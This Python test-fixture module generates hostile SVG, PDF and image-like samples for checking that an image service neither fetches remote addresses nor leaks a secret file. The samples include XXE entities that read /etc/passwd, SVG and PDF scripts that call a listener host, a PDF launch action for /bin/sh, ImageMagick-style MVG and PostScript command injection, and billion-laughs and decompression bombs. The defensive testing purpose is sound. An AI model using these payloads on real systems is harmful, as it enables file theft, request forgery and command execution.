"""Drawings (SVG), pages (PDF) and programs of other tools that look like pictures."""

import base64
import functools
import gzip
import io
import os

import pikepdf
import reportlab
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

from .bombs import one_colour
from .expect import BLUE, GREEN, GREY, RED, YELLOW, Sample, Shows
from .pictures import MARK, quarters, saved

DRAWING = Shows(400, 300, is_drawing=True)
PAGE = Shows(400, 300, is_drawing=True, tolerance=60)


def rgb(colour):
    return "rgb(%d,%d,%d)" % colour


def svg(inside="", head="", attributes='width="400" height="300"', before=""):
    """Four quarters, and what is wanted besides."""
    squares = "".join(f'<rect x="{x}" y="{y}" width="200" height="150" fill="{rgb(colour)}"/>'
                      for x, y, colour in ((0, 0, RED), (200, 0, GREEN), (0, 150, BLUE), (200, 150, YELLOW)))
    return (f'<?xml version="1.0" encoding="UTF-8"?>{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'xmlns:xi="http://www.w3.org/2001/XInclude" {attributes}>{head}{squares}{inside}</svg>').encode()


def drawings(listener, secret):
    """`listener` is an address that must not be called, `secret` a picture of one colour that must not be shown."""
    yield Sample("plain.svg", svg(), DRAWING)
    yield Sample("view-box.svg", svg(attributes='viewBox="0 0 400 300"'), DRAWING)
    yield Sample("packed.svgz", gzip.compress(svg()), DRAWING, may_be_none=True)
    embedded = base64.b64encode(saved(quarters(), "PNG")).decode()
    yield Sample("embedded.svg", b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300">'
                 b'<image width="400" height="300" xlink:href="data:image/png;base64,' + embedded.encode() + b'"/></svg>', DRAWING, may_be_none=True)
    yield Sample("holes.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><rect width="200" height="300" fill="' + rgb(RED).encode() + b'"/></svg>',
                 Shows(400, 300, {(0.25, 0.5): RED}, is_drawing=True, clear=((0.75, 0.5),)))
    covering = 'x="0" y="0" width="400" height="300"'
    places = {"file": f"file://{secret}", "path": secret, "up": "../" * 12 + secret.lstrip("/"), "self": os.path.basename(secret), "http": f"http://{listener}/a.png",
              "protocol": f"//{listener}/b.png", "proc": "/proc/self/cmdline", "fd": "/proc/self/fd/3", "dev": "/dev/stdin", "zero": "/dev/zero"}
    for name, place in places.items():
        yield Sample(f"refers-{name}.svg", svg(f'<image {covering} xlink:href="{place}"/><image {covering} href="{place}"/>'), DRAWING, may_be_none=True)
    yield Sample("refers-use.svg", svg(f'<use xlink:href="file://{secret}.svg#all"/><use href="http://{listener}/c.svg#a"/>'), DRAWING, may_be_none=True)
    yield Sample("refers-include.svg", svg(f'<xi:include href="file:///etc/passwd" parse="text"/><text><xi:include href="http://{listener}/d" parse="text"/></text>'),
                 DRAWING, may_be_none=True)
    yield Sample("refers-css.svg", svg(head=f"<style>@import url('http://{listener}/e.css'); @import url('file:///etc/passwd'); "
                 f"@font-face {{ font-family: x; src: url(http://{listener}/f.ttf) }} text {{ font-family: x }}</style>", inside="<text>x</text>"), DRAWING, may_be_none=True)
    yield Sample("refers-sheet.svg", svg(before=f'<?xml-stylesheet href="http://{listener}/g.css" type="text/css"?>'), DRAWING, may_be_none=True)
    yield Sample("entity-file.svg", svg("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), DRAWING, may_be_none=True)
    yield Sample("entity-http.svg", svg("<text>&x;</text>", before=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://{listener}/h.dtd"> %p; <!ENTITY x SYSTEM "http://{listener}/i">]>'),
                 DRAWING, may_be_none=True)
    yield Sample("doctype.svg", svg(before=f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://{listener}/svg11.dtd">'), DRAWING, may_be_none=True)
    yield Sample("script.svg", svg(f"<script>fetch('http://{listener}/j')</script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='http://{listener}/k'/></foreignObject>"),
                 DRAWING, may_be_none=True)
    yield Sample("text.svg", svg('<text x="10" y="20" font-family="Helvetica">' + MARK.decode() + "</text>"), DRAWING)


def drawing_bombs():
    laughs = "".join(f'<!ENTITY l{n} "{("&l%d;" % (n - 1)) * 10}">' for n in range(1, 12))
    yield Sample("laughs.svg", svg("<text>&l11;</text>", before=f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>'), any=True)
    yield Sample("quadratic.svg", svg("<text>" + "&a;" * 30_000 + "</text>", before='<!DOCTYPE svg [<!ENTITY a "' + "a" * 30_000 + '">]>'), any=True)
    yield Sample("deep.svg", svg("<g>" * 200_000 + "</g>" * 200_000), any=True)
    uses = "".join(f'<g id="u{n}">' + f'<use xlink:href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
    yield Sample("uses.svg", svg(f'<defs><rect id="u0" width="9" height="9"/>{uses}</defs><use xlink:href="#u9"/>'), any=True)
    yield Sample("use-of-itself.svg", svg('<g id="a"><use xlink:href="#a"/></g>'), any=True)
    patterns = "".join(f'<pattern id="p{n}" width=".01" height=".01"><rect width="400" height="300" fill="url(#p{n - 1})"/></pattern>' for n in range(1, 12))
    yield Sample("patterns.svg", svg(f'<defs>{patterns}</defs><rect width="400" height="300" fill="url(#p11)"/>'), any=True)
    filters = '<feGaussianBlur stdDeviation="100"/><feTurbulence baseFrequency="0.9" numOctaves="10000"/>' * 20
    yield Sample("filters.svg", svg(f'<filter id="f" x="-100" y="-100" width="10000" height="10000">{filters}</filter><rect width="400" height="300" filter="url(#f)"/>'), any=True)
    yield Sample("morphology.svg", svg('<filter id="f"><feMorphology operator="dilate" radius="5000"/></filter><rect width="400" height="300" filter="url(#f)"/>'), any=True)
    yield Sample("paths.svg", svg('<path stroke="black" stroke-dasharray="0.0001" d="M0 0' + "".join(f"L{n % 400} {n % 300}" for n in range(100_000)) + '"/>'), any=True)
    yield Sample("billion-wide.svg", svg(attributes='width="1000000000" height="1000000000"'), any=True)
    yield Sample("billion-tall.svg", svg(attributes='width="1" height="1000000000"'), any=True)
    yield Sample("no-size.svg", svg(attributes='width="0" height="0"'), any=True)
    yield Sample("negative.svg", svg(attributes='width="-5" height="-5"'), any=True)
    yield Sample("not-a-number.svg", svg(attributes='viewBox="nan nan 1e999 1e999" width="1e999" height="NaN"'), any=True)
    yield Sample("packed-4-gb.svgz", gzip.compress(b"<svg>" + b" " * 100_000_000), any=True)
    embedded = base64.b64encode(one_colour(30_000, 1, 3, bytes(3750))).decode()
    yield Sample("embedded-30000.svg", svg(f'<image width="400" height="300" xlink:href="data:image/png;base64,{embedded}"/>'), any=True)
    yield Sample("broken.svg", svg()[:-30], any=True)
    yield Sample("utf-16.svg", svg().decode().replace("UTF-8", "UTF-16").encode("utf-16"), DRAWING, may_be_none=True)


# -- PDF -----------------------------------------------------------------------------------------------------------------


def pdf(pages=1, font="Helvetica", size=(400, 300), text="Hearth", paint=True):
    """A page of four quarters with words upon it, and grey pages after it."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=size, invariant=1)
    for number in range(pages):
        squares = ((0, 150, RED), (200, 150, GREEN), (0, 0, BLUE), (200, 0, YELLOW)) if number == 0 and paint else ((0, 0, GREY),) if paint else ()
        for x, y, colour in squares:
            canvas.setFillColorRGB(*(part / 255 for part in colour))
            canvas.rect(x, y, 200 if number == 0 else 400, 150 if number == 0 else 300, stroke=0, fill=1)
        canvas.setFillColorRGB(0, 0, 0)
        canvas.setFont(font, 9)
        canvas.drawString(5, 145, text)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def changed(content, change=None, **options):
    """A PDF after a change by another library."""
    with pikepdf.open(io.BytesIO(content)) as document:
        if change:
            change(document)
        out = io.BytesIO()
        document.save(out, **options)
        return out.getvalue()


@functools.cache
def embedded_font():
    pdfmetrics.registerFont(TTFont("Vera", os.path.join(os.path.dirname(reportlab.__file__), "fonts", "Vera.ttf")))
    return "Vera"


def pages(listener, secret):
    plain = pdf()
    yield Sample("plain.pdf", plain, PAGE)
    yield Sample("embedded-font.pdf", pdf(font=embedded_font()), PAGE)
    yield Sample("chinese-names.pdf", pdf(text="\u65e5\u672c"), PAGE, may_be_none=True)
    yield Sample("1000-pages.pdf", pdf(1000), PAGE)
    yield Sample("objects-packed.pdf", changed(plain, object_stream_mode=pikepdf.ObjectStreamMode.generate), PAGE)
    yield Sample("linear.pdf", changed(plain, linearize=True), PAGE)
    yield Sample("encrypted.pdf", changed(plain, encryption=pikepdf.Encryption(owner="b", user="a")))
    yield Sample("encrypted-openly.pdf", changed(plain, encryption=pikepdf.Encryption(owner="b", user="")), PAGE, may_be_none=True)

    def turn(document):
        document.pages[0].Rotate = 90

    yield Sample("turned.pdf", changed(plain, turn), Shows(300, 400, {(0.25, 0.25): BLUE, (0.75, 0.25): RED, (0.25, 0.75): YELLOW, (0.75, 0.75): GREEN}, is_drawing=True, tolerance=60))

    def script(document):
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"this.submitForm('http://{listener}/a'); app.launchURL('http://{listener}/b');")
        document.Root.OpenAction = document.make_indirect(action)
        document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"http://{listener}/c"))

    yield Sample("script.pdf", changed(plain, script), PAGE)

    def launch(document):
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=secret, Win=pikepdf.Dictionary(F="/bin/sh")))

    yield Sample("launch.pdf", changed(plain, launch), PAGE)

    def outside(document):
        image = pikepdf.Stream(document, b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=10, Height=10, ColorSpace=pikepdf.Name.DeviceRGB,
                               BitsPerComponent=8, F=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, FS=pikepdf.Name.URL, F=f"http://{listener}/d"))
        other = pikepdf.Stream(document, b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=10, Height=10, ColorSpace=pikepdf.Name.DeviceRGB,
                               BitsPerComponent=8, F=secret)
        page = document.pages[0]
        page.add_resource(image, pikepdf.Name.XObject, pikepdf.Name.Outside)
        page.add_resource(other, pikepdf.Name.XObject, pikepdf.Name.Other)
        page.contents_add(b"q 400 0 0 300 0 0 cm /Outside Do /Other Do Q")

    yield Sample("outside.pdf", changed(plain, outside), any=True)
    yield Sample("transparent-page.pdf", pdf(paint=False), Shows(400, 300, {(0.75, 0.25): (255, 255, 255)}, is_drawing=True))
    yield Sample("tiny-page.pdf", pdf(size=(0.01, 0.01)), any=True)
    yield Sample("huge-page.pdf", pdf(size=(1e7, 1e7)), any=True)
    yield Sample("no-pages.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF", any=True)
    yield Sample("pages-in-a-circle.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>endobj\n"
                 b"trailer<</Root 1 0 R>>\n%%EOF", any=True)
    yield Sample("cut-in-half.pdf", plain[:len(plain) // 2], any=True)
    yield Sample("rubbish-before.pdf", b"\n" * 500 + plain, PAGE, may_be_none=True)

    def bomb(document):
        data = b"q 1 0 0 1 0 0 cm\n" * 3_000_000
        document.pages[0].Contents = pikepdf.Stream(document, data)

    yield Sample("nested-states.pdf", changed(plain, bomb, compress_streams=True), any=True)

    def forms(document):
        previous = pikepdf.Stream(document, b"0 0 5 5 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 400, 300])
        previous = document.make_indirect(previous)
        for _ in range(12):
            form = pikepdf.Stream(document, b"/A Do " * 10, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 400, 300],
                                  Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=previous)))
            previous = document.make_indirect(form)
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=previous))
        document.pages[0].Contents = pikepdf.Stream(document, b"/A Do")

    yield Sample("forms-of-forms.pdf", changed(plain, forms), any=True)

    def large_image(document):
        image = pikepdf.Stream(document, bytes(30_000) * 3_750, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=30_000, Height=30_000,
                               ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=1)
        document.pages[0].add_resource(image, pikepdf.Name.XObject, pikepdf.Name.Im)
        document.pages[0].contents_add(b"q 400 0 0 300 0 0 cm /Im Do Q")

    yield Sample("image-of-30000.pdf", changed(plain, large_image, compress_streams=True), any=True)

    def pattern(document):
        cell = pikepdf.Stream(document, b"0 0 .001 .001 re f", Type=pikepdf.Name.Pattern, PatternType=1, PaintType=1, TilingType=1, BBox=[0, 0, 1, 1],
                              XStep=0.0001, YStep=0.0001, Resources=pikepdf.Dictionary())
        document.pages[0].Resources = pikepdf.Dictionary(Pattern=pikepdf.Dictionary(P=document.make_indirect(cell)))
        document.pages[0].Contents = pikepdf.Stream(document, b"/Pattern cs /P scn 0 0 400 300 re f")

    yield Sample("tiny-tiles.pdf", changed(plain, pattern), any=True)


# -- programs that look like pictures ------------------------------------------------------------------------------------


def programs(listener, secret):
    """What picture libraries have taken for orders."""
    yield Sample("draws.mvg", f"push graphic-context\nviewbox 0 0 64 48\nimage over 0,0 0,0 'http://{listener}/l'\npop graphic-context\n".encode())
    yield Sample("draws.jpg", f"push graphic-context\nviewbox 0 0 64 48\nfill 'url(https://{listener}/m\"|touch /tmp/hearth-was-here\")'\npop graphic-context\n".encode())
    yield Sample("script.msl", f'<?xml version="1.0"?><image><read filename="{secret}"/><write filename="/tmp/hearth-was-here"/></image>'.encode())
    yield Sample("script.png", f'<?xml version="1.0"?><image><read filename="{secret}"/><write filename="/tmp/hearth-was-here"/></image>'.encode(), any=True)
    yield Sample("post.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n(%pipe%touch /tmp/hearth-was-here) (w) file\nshowpage\n", any=True)
    yield Sample("post.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n(/etc/passwd) (r) file 100 string readstring show showpage\n", any=True)
    yield Sample("matrix.jpg", b"100 100\n" + b"1 " * 10_000, any=True)
    yield Sample("table.png", b"1,2,3\n" * 100, any=True)
    yield Sample("small.xpm", b'/* XPM */ static char * x[] = {"2 2 1 1","a c #ff0000","aa","aa"};', any=True)
    yield Sample("hdr.hdr", b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 100000 +X 100000\n" + bytes(100), any=True)
    yield Sample("fits.fits", b"SIMPLE  =                    T".ljust(80) + b"BITPIX  =                    8".ljust(80) + b"END".ljust(80), any=True)
    yield Sample("label.jpg", f"label:@{secret}\n".encode())
    yield Sample("vips.v", b"\xb6\xa6\xf2\x08" + bytes(60), any=True)


def all_samples(listener, secret):
    made = [("drawings", drawings(listener, secret)), ("drawing_bombs", drawing_bombs()), ("pages", pages(listener, secret)), ("programs", programs(listener, secret))]
    for group, samples in made:
        for sample in samples:
            yield Sample(**{**sample.__dict__, "group": group})
